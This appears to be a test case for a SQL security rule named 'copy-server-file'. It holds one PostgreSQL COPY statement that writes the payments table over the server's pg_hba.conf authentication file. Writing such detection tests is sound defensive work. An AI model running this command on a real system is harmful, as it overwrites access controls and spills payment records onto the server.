-- rules: copy-server-file
COPY (SELECT * FROM payments) TO '/var/lib/postgresql/15/main/pg_hba.conf';
